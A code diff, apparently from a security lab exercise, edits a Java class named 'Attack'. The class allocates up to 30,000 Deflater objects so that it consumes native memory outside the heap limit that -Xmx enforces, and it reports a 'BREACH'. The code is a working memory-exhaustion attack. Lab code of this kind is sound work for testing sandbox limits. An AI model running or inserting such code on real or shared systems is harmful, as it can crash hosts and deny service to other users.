@@ -3,7 +3,7 @@ package marshal.lab1;
 import java.util.ArrayList;
 import java.util.zip.Deflater;
 
-/** Takes 3.3 GB of memory outside of the heap, which -Xmx does not bound */
+/** Takes 6 GB of memory outside of the heap, which -Xmx does not bound */
 final class Attack {
 
     private Attack() {}
@@ -12,12 +12,12 @@ final class Attack {
         var all = new ArrayList<Deflater>();
         byte[] input = new byte[1 << 16];
         byte[] output = new byte[1 << 16];
-        while (all.size() < 13_000) {
+        while (all.size() < 30_000) {
             var deflater = new Deflater(9);
             deflater.setInput(input);
             deflater.deflate(output);
             all.add(deflater);
         }
-        return "BREACH: " + all.size() + " deflaters of 256 KB";
+        return "BREACH: " + all.size() + " deflaters of 200 KB and more";
     }
 }
